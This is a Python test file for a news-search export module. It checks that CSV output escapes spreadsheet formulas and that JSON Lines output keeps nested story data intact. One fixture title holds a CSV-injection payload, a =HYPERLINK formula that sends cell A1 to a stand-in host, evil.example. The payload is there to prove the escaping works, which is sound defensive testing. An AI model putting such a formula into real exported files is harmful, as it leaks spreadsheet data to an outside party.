"""Results to take away (search.tables): CSV a spreadsheet opens safely, JSON Lines a notebook reads."""

import csv
import io
import json

import pytest

from search import tables

ROWS = [
    {"id": "a-1", "title": '=HYPERLINK("http://evil.example/?x="&A1, "klik")', "source": "Kompas.com",
     "date": "2017-06-01", "author": "+62 811", "url": "https://x.id/a", "score": 12.5,
     "snippet": "Banjir merendam Jakarta, warga mengungsi \u2014 \u201ckami pasrah\u201d", "story": "a-1",
     "same_story": [{"id": "b-2", "source": "Suara", "title": "Banjir", "date": "2017-06-01"},
                    {"id": "c-3", "source": "Merdeka", "title": "Banjir lagi", "date": None}]},
    {"id": "d-4", "title": "-10 derajat di Dieng", "source": "@antaranews", "date": None, "author": None,
     "url": None, "score": None, "snippet": "Suhu\tturun,\r\nembun beku", "story": None, "same_story": []},
]


def test_csv_reads_back_with_the_same_cells_and_no_formula():
    text = "".join(tables.csv_lines(ROWS))
    assert text.startswith(tables.BOM + "id,title,")
    parsed = list(csv.DictReader(io.StringIO(text.encode("utf-8").decode("utf-8-sig"))))
    assert len(parsed) == 2
    first, second = parsed
    assert first["title"].startswith("'=HYPERLINK(")
    assert first["author"] == "'+62 811" and second["title"] == "'-10 derajat di Dieng"
    assert second["source"] == "'@antaranews"
    assert first["snippet"] == ROWS[0]["snippet"]  # UTF-8 kept: the dash and curly quotes
    assert second["snippet"] == "Suhu\tturun,\r\nembun beku"  # inside a cell, quoted: not a formula start
    assert first["score"] == "12.5" and second["score"] == ""
    assert first["same_story"] == "b-2 c-3" and second["same_story"] == ""
    # No cell a spreadsheet would take as a formula.
    for row in parsed:
        assert not any(value.startswith(("=", "+", "-", "@")) for value in row.values())


def test_jsonl_keeps_the_story_as_objects():
    lines = list(tables.jsonl_lines(ROWS))
    assert len(lines) == 2 and all(line.endswith("\n") for line in lines)
    first = json.loads(lines[0])
    assert list(first) == list(tables.FIELDS)
    assert first["title"] == ROWS[0]["title"]  # JSON is data, not a spreadsheet: nothing prefixed
    assert [other["source"] for other in first["same_story"]] == ["Suara", "Merdeka"]


def test_an_unknown_format_is_refused():
    with pytest.raises(ValueError, match="csv or jsonl"):
        tables.result_lines(ROWS, "xlsx")
